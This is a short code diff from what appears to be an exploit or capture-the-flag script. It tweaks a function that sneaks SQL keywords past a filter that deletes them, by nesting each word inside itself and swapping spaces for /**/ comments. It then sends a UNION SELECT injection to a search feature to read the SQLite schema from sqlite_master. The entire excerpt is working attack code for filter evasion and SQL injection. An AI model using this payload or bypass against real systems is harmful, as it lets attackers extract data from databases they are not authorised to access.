@@ -45,7 +45,7 @@ def strained():
     def hidden(query):
         """Words that are taken out are written around themselves; comments stand for spaces."""
         for word in ("union", "select", "from", "where", "or", "and"):
-            query = query.replace(word, word[:2] + word + word[2:])
+            query = query.replace(word, word[:1] + word + word[1:])
         return query.replace(" ", "/**/")
 
     sql = talk.ask("search " + hidden("~' union select sql from sqlite_master where name glob 't_*' union select '"))
